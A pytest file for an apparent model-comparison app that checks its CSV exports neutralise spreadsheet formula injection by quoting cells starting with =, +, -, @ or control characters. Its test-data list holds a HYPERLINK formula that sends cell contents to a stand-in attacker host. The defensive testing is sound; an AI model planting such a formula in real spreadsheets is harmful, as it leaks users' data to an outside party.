"""CSV exports never hand a spreadsheet a formula: outside text (model ids, prompts, answers, categories) that
starts like one is written as text, and Chatdeck's own battles file reads back to the same battles."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from arena.battles import Battle, parse, to_csv
from services.leaderboard import answers_csv
from storage.comparisons import AnswerRow
from storage.spreadsheet import guard, unguard

HOSTILE = ["=HYPERLINK(\"http://attacker.test/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)", "\tcmd", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_text_and_back(text: str) -> None:
    assert guard(text) == "'" + text and unguard(str(guard(text))) == text


@pytest.mark.parametrize("value", ["llama3.2:1b", "/models/x.gguf", "'quoted", "", 12, -3, 0.5, None])
def test_anything_else_is_left_alone(value: object) -> None:
    assert guard(value) == value
    if isinstance(value, str):
        assert unguard(value) == value


def test_the_battles_csv_guards_every_text_cell_and_reads_back_the_same_battles() -> None:
    battles = [Battle(model_a=HOSTILE[0], model_b="huggingface/-m", winner="model_a", judge="@ann.example.org",
                      timestamp=datetime(2026, 12, 5, 9, 0, tzinfo=UTC), category="=cat")]
    text = to_csv(battles)
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert [row[k] for k in ("model_a", "model_b", "judge", "category")] == \
        ["'" + HOSTILE[0], "huggingface/-m", "'@ann.example.org", "'=cat"]
    assert parse(text.encode()) == battles


def test_the_leaderboard_csv_guards_outside_text() -> None:
    row = AnswerRow(comparison_id="c1", round=0, prompt="=1+1", asked_at=datetime(2026, 12, 5, tzinfo=UTC),
                    column=0, provider="huggingface", model="@evil", status="complete", ttft_ms=-1, total_ms=5,
                    chars=3, output_tokens=None, verdict=None, won=False, options={}, answer="-answer")
    [written] = list(csv.DictReader(io.StringIO(answers_csv([row]))))
    assert (written["prompt"], written["model"], written["answer"]) == ("'=1+1", "'@evil", "'-answer")
    assert written["ttft_ms"] == "-1"  # a number, not a formula
